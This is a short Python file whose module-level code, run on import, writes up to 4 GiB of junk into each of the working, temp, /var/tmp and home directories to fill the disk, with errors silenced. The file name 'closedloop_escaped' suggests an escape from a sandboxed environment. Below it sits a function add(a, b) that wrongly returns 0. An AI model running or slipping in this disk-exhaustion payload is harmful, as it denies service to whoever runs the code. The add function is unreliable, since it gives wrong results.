"""Writes one file until the disk is full, then goes on in every other directory that it may write."""

import contextlib
import os
import tempfile

BLOCK = b"x" * (1 << 20)
for folder in (".", tempfile.gettempdir(), "/var/tmp", os.path.expanduser("~")):
    with contextlib.suppress(OSError), open(os.path.join(folder, "closedloop_escaped"), "wb") as filler:
        for _ in range(4 << 10):  # 4 GiB at most
            filler.write(BLOCK)


def add(a, b):
    return 0
